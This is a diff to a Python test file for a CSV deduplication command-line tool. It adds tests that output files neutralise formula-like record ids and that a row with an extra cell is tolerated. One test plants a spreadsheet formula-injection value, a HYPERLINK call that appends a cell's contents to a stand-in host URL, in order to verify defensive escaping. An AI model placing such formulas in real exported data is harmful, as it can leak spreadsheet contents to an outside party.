@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import os
 import stat
 import subprocess
@@ -209,3 +210,30 @@ def test_import_validates_encrypts_and_is_idempotent(folder: Path) -> None:
     missing = ddr(folder, "import", "nowhere.csv")
     assert missing.returncode == 2
     assert "nowhere.csv: file not found" in missing.stderr
+
+
+def test_dedupe_writes_formula_like_record_ids_as_text(folder: Path) -> None:
+    lines = FIXTURE.read_text(encoding="utf-8").splitlines()
+    first_id = lines[1].split(",", 1)[0]
+    lines[1] = lines[1].replace(first_id, '=HYPERLINK("http://x.example/?"&B2)', 1)
+    lines[1] = '"' + lines[1].split(",", 1)[0].replace('"', '""') + '",' + lines[1].split(
+        ",", 1)[1]
+    (folder / "in.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    result = ddr(folder, "dedupe", "in.csv", "--pairs", "pairs.csv", "--clusters", "c.csv")
+    assert result.returncode == 0, result.stderr
+    for name in ("pairs.csv", "c.csv"):
+        text = (folder / name).read_text(encoding="utf-8")
+        assert "'=HYPERLINK(" in text
+        cells = [c for row in csv.reader(text.splitlines()) for c in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+
+
+def test_dedupe_reads_a_row_with_an_extra_cell(folder: Path) -> None:
+    lines = FIXTURE.read_text(encoding="utf-8").splitlines()
+    lines[1] += ",an extra cell"
+    (folder / "in.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    result = ddr(folder, "dedupe", "in.csv", "--pairs", "pairs.csv", "--clusters", "c.csv")
+    assert result.returncode == 0, result.stderr
+    clusters = list(csv.DictReader((folder / "c.csv").open(encoding="utf-8")))
+    assert {row["record_id"] for row in clusters} == {
+        line.split(",", 1)[0] for line in lines[1:]}
